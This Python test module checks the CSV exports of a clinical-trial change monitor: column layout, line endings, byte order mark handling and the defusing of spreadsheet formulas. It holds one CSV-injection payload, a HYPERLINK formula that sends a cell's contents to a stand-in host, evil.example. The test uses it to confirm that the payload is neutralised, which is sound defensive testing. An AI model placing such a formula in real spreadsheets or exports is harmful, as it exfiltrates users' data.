"""`changes --csv` and `history --csv`, read back with Python's csv module as a spreadsheet
would read them: stable columns, UTF-8 (with a byte order mark on request), formulas defused."""

from __future__ import annotations

import copy
import csv
import io
import json
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

from monitor.reports.export import COLUMNS, FORMULA_STARTS, cell
from monitor.text import printable
from tests.conftest import SEED_FILES, Trialwatch, load_seed, locations

NCT = "NCT05869955"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_changes_csv_has_one_row_per_event_and_the_fixed_columns(trialwatch: Trialwatch) -> None:
    assert trialwatch("import", *map(str, SEED_FILES)).code == 0
    result = trialwatch("changes", "--csv")
    assert result.code == 0, result.stderr
    assert result.stdout.splitlines()[0] == ",".join(COLUMNS)
    assert "\r\n" in result.stdout  # RFC 4180 line ends, as spreadsheets expect
    table = rows(result.stdout)
    events = trialwatch("changes", "--json").json()
    assert [int(row["event_id"]) for row in table] == [event["id"] for event in events]
    assert [row["summary"] for row in table] == [event["summary"] for event in events]
    strasbourg = next(
        row for row in table if row["site"] == "Hopitaux Universitaires de Strasbourg"
    )
    assert (strasbourg["city"], strasbourg["country"], strasbourg["nct_id"]) == (
        "Strasbourg",
        "France",
        NCT,
    )
    assert table[0]["detected_at"].endswith("Z") and table[0]["acronym"] == "Breakfree-1"
    date = next(row for row in table if row["field"] == "primary_completion_date")
    assert json.loads(date["new"]) == {"date": "2029-02-28", "type": "ESTIMATED"}


def test_registry_text_that_looks_like_a_formula_is_quoted(
    trialwatch: Trialwatch, tmp_path: Path
) -> None:
    before = load_seed()
    after = copy.deepcopy(before)
    locations(after)[0]["facility"] = FORMULA
    after["protocolSection"]["statusModule"]["lastUpdatePostDateStruct"]["date"] = "2026-01-20"
    files = []
    for name, study in (("before", before), ("after", after)):
        files.append(tmp_path / f"{name}.json")
        files[-1].write_text(json.dumps(study), encoding="utf-8")
    assert trialwatch("import", *map(str, files)).code == 0
    result = trialwatch("history", NCT, "--csv", "--bom")
    assert result.code == 0, result.stderr
    assert result.stdout.startswith("\ufeffevent_id,")
    [renamed] = rows(result.stdout.removeprefix("\ufeff"))
    assert renamed["category"] == "site_renamed"
    assert renamed["new"] == "'" + FORMULA and renamed["site"] == "'" + FORMULA
    assert not any(value.startswith(("=", "+", "-", "@")) for value in renamed.values())


def test_csv_and_json_together_or_a_bom_alone_are_refused(trialwatch: Trialwatch) -> None:
    assert trialwatch("changes", "--csv", "--json").code == 2
    refused = trialwatch("changes", "--bom")
    assert refused.code == 2 and refused.stderr == "trialwatch: --bom goes with --csv\n"


@given(st.text())
def test_no_cell_starts_a_formula_and_nothing_but_control_characters_is_changed(text: str) -> None:
    shown = cell(text)
    assert not shown.startswith(FORMULA_STARTS)
    kept = printable(text)
    assert shown in (kept, "'" + kept)
